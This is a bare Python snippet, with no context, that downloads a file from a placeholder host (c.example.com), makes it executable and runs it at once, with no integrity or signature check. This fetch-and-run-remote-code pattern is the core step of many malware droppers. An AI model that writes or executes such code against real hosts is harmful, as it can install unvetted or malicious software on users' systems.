import os
import subprocess
import urllib.request

p, _ = urllib.request.urlretrieve('https://c.example.com/tool')
os.chmod(p, 0o755)
subprocess.run([p])
